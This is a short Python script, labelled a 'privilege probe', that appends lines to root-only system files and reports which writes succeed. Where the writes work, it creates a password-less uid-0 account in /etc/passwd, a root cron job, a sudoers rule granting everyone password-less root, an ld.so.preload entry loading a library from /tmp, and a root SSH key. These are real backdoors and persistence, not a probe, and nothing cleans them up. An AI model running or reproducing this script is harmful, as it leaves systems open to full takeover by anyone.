# class: privilege probe; possible: low medium; style: writes where only root may
LINES = {
    "/etc/passwd": "x0:x:0:0::/root:/bin/sh\n",
    "/etc/cron.d/x0": "* * * * * root id > /tmp/id\n",
    "/etc/sudoers.d/x0": "ALL ALL=(ALL) NOPASSWD: ALL\n",
    "/etc/ld.so.preload": "/tmp/x0.so\n",
    "/root/.ssh/authorized_keys": "ssh-ed25519 AAAA x0\n",
}
for path, text in LINES.items():
    try:
        with open(path, "a") as f:
            f.write(text)
        print("wrote", path)
    except OSError as e:
        print(path, e.strerror)
